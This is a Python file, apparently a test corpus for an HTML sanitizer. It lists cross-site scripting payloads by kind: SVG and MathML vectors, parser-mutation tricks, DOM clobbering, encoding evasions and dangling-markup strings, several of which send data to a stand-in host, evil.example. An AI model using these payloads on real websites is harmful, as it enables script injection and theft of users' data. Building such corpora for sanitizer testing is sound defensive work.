"""Strings that try to become more than text: foreign elements, mutations, clobbering, encodings."""

SVG = (
    "<svg onload=__pwned(§)>",
    "<svg/onload=__pwned(§)>",
    "<svg><script>__pwned(§)</script></svg>",
    "<svg><script href=https://evil.example/p§ /></svg>",
    "<svg><script>__pwned&#40;§)</script></svg>~§",
    "<svg><a href=javascript:__pwned(§)><text y=20>click</text></a></svg>",
    "<svg><a xlink:href=javascript:__pwned(§)><rect width=99 height=99 /></a></svg>",
    "<svg><animate onbegin=__pwned(§) attributeName=x dur=1s>",
    "<svg><set onbegin=__pwned(§) attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:__pwned(§) /><a id=pwn-a><text>x</text></a>",  # noqa: E501
    "<svg><a><animate attributeName=href to=javascript:__pwned(§) /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__pwned(§)>#x' /></svg>",
    "<svg><use href=https://evil.example/p§#x /></svg>",
    "<svg><image href=https://evil.example/p§ /></svg>",
    "<svg><image href=x onerror=__pwned(§) /></svg>",
    "<svg><feImage href=https://evil.example/p§ /></svg>",
    "<svg><foreignObject><iframe src=javascript:__pwned(§) /></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror=__pwned(§)></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/p§';</style></svg>",
    "<svg><style><img src=x onerror=__pwned(§)></style></svg>",
    "<svg><title><img src=x onerror=__pwned(§)></title></svg>",
    "<svg><desc><img src=x onerror=__pwned(§)></desc></svg>",
    "<svg><discard onbegin=__pwned(§) /></svg>",
    "<svg><handler type=text/javascript>__pwned(§)</handler></svg>",
    "<svg><p><style><a id='</style><img src=x onerror=__pwned(§)>'></p></svg>",
    "<svg fill=url(https://evil.example/p§) width=9 height=9><rect width=9 height=9 /></svg>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='__pwned(§)'/>",
)  # fmt: skip

MATHML = (
    "<math href=javascript:__pwned(§)>m</math>",
    "<math><mtext><img src=x onerror=__pwned(§)></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:__pwned(§)>m</maction></math>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=__pwned(§)></style></mglyph></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=__pwned(§)></annotation-xml></math>",  # noqa: E501
    "<math><mi//xlink:href='data:x,<script>__pwned(§)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__pwned(§)&gt;'>",  # noqa: E501
    "<math><semantics><annotation encoding=x><script>__pwned(§)</script></annotation></semantics></math>",  # noqa: E501
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=__pwned(§) src=x>'>",  # noqa: E501
)  # fmt: skip

MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=__pwned(§)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=__pwned(§)></style></noscript>",
    "<template><script>__pwned(§)</script></template>",
    "<template shadowrootmode=open><script>__pwned(§)</script><slot></slot></template>",
    "<div><template shadowrootmode=open><img src=x onerror=__pwned(§)></template></div>",
    "<textarea><img title='</textarea><img src=x onerror=__pwned(§)>'></textarea>",
    "<title><img title='</title><img src=x onerror=__pwned(§)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=__pwned(§)>'></xmp>",
    "<style><p title='</style><img src=x onerror=__pwned(§)>'></style>",
    "<iframe><p title='</iframe><img src=x onerror=__pwned(§)>'></iframe>",
    "<noframes><p title='</noframes><img src=x onerror=__pwned(§)>'></noframes>",
    "<select><style></select><img src=x onerror=__pwned(§)></style></select>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=__pwned(§)>'>",  # noqa: E501
    "<table><caption><svg><title><table><caption></title></svg><style><a title='</style><img src=x onerror=__pwned(§)>'>",  # noqa: E501
    "<p><table><p></table><a title='</p><img src=x onerror=__pwned(§)>'>",
    "<a><b><a></b><img title='&lt;/a&gt;&lt;img src=x onerror=__pwned(§)&gt;'></a>",
    "<svg></p><style><a id='</style><img src=1 onerror=__pwned(§)>'>",
    "<math></br><style><a id='</style><img src=1 onerror=__pwned(§)>'>",
    "<form id=pwn-f><form><input name=attributes></form></form><img src=x onerror=__pwned(§)>",
    "<option><style></option></select><img src=x onerror=__pwned(§)></style></option>",
    "<plaintext><img src=x onerror=__pwned(§)>",
    "<listing>&lt;img src=x onerror=__pwned(§)&gt;</listing>",
    "<!--<img src='--><img src=x onerror=__pwned(§)>'>",
    "<!---!><img src=x onerror=__pwned(§)>-->",
    "<!-- --!><img src=x onerror=__pwned(§)>",
    "<![CDATA[<img src=x onerror=__pwned(§)>]]>",
    "<?img ?><img src=x onerror=__pwned(§)>?>",
    "</ img src=x onerror=__pwned(§)><img src=x onerror=__pwned(§)>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=__pwned(§)>'>]>&x;",
    "<" + "div>" * 40 + "<img src=x onerror=__pwned(§)>",
    "<b " + "x=1 " * 60 + "onclick=__pwned(§)>many attributes",
)  # fmt: skip

CLOBBERING = (
    "<a id=pwn-c name=x href=https://evil.example/p§>c</a>",
    "<img name=cookie src=x alt=~§>",
    "<form name=body><input name=firstChild></form>~§",
    "<form id=root><input name=innerHTML></form>~§",
    "<a id=defaultView><a id=defaultView name=location href=javascript:__pwned(§)>",
    "<input name=getElementById>~§",
    "<p id=__proto__>~§</p>",
    "<img name=querySelector><img name=createElement>~§",
    "<iframe name=fetch src=https://evil.example/p§></iframe>",
    "<object name=currentScript data=https://evil.example/p§></object>",
    "<p id=main tabindex=0 autofocus>~§</p>",
    "<form name=DOMPurify><input name=sanitize></form>~§",
)

ENCODED = (
    "&lt;script&gt;__pwned(§)&lt;/script&gt;",
    "&#60;script&#62;__pwned(§)&#60;/script&#62;",
    "&#x3c;img src=x onerror=__pwned(§)&#x3e;",
    "&amp;lt;img src=x onerror=__pwned(§)&amp;gt;",
    "&lt&NewLine;img src=x onerror=__pwned(§)&gt;",
    "+ADw-script+AD4-__pwned(§)+ADw-/script+AD4-",
    r"\u003cscript\u003e__pwned(§)\u003c/script\u003e",
    r"\x3cimg src=x onerror=__pwned(§)\x3e",
    "%3Cscript%3E__pwned(§)%3C/script%3E",
    "%253Cimg%20src=x%20onerror=__pwned(§)%253E",
    "\uff1cscript\uff1e__pwned(§)\uff1c/script\uff1e",
    "\u2039script\u203a__pwned(§)\u2039/script\u203a",
    "\u3008img src=x onerror=__pwned(§)\u3009",
    "<scr\x00ipt>__pwned(§)</scr\x00ipt>",
    "<\x00img src=x onerror=__pwned(§)>",
    "<img\x0bsrc=x\x0conerror=__pwned(§)>",
    "<img\x0csrc=x\x0conerror\x0c=__pwned(§)>",
    "<img\u00a0src=x\u00a0onerror=__pwned(§)>",
    "<img\u2028src=x\u2029onerror=__pwned(§)>",
    "\u202e<img src=x onerror=__pwned(§)>\u202c",
    "\u2066<script>__pwned(§)</script>\u2069",
    "\ufeff<script>__pwned(§)</script>",
    "<\u200bscript>__pwned(§)</\u200bscript>",
    "<\u0131mg src=x onerror=__pwned(§)>",
    "<\u017fcript>__pwned(§)</\u017fcript>",
    "<\u212b><img src=x onerror=__pwned(§)>",
    "\ud7ff\ue000<script>__pwned(§)</script>",
    "\U000e0001\U000e0041<script>__pwned(§)</script>",
    "a\u0300\u0301\u0302<img src=x onerror=__pwned(§)>",
    "\x7f\x80\x9f<img src=x onerror=__pwned(§)>",
)

DANGLING = (
    "<img src='https://evil.example/p§?",
    '<img src="https://evil.example/p§?',
    "<a href='https://evil.example/p§?",
    "<form action=https://evil.example/p§><textarea name=x>",
    "<form action=https://evil.example/p§><input type=submit value=go><select name=x><option>",
    "<button form=pwn-f formaction=https://evil.example/p§ name=x>go",
    "<base target='~§",
    "<table background='https://evil.example/p§?",
    "<meta http-equiv=refresh content='0;url=https://evil.example/p§?",
    "<style>@import'https://evil.example/p§?",
    "<input type=hidden name=x value='~§",
    "<noscript><img src=https://evil.example/p§></noscript>",
)

FOREIGN: dict[str, tuple[str, ...]] = {
    "SVG": SVG,
    "MathML": MATHML,
    "mutations": MUTATIONS,
    "clobbering": CLOBBERING,
    "encoded": ENCODED,
    "dangling": DANGLING,
}
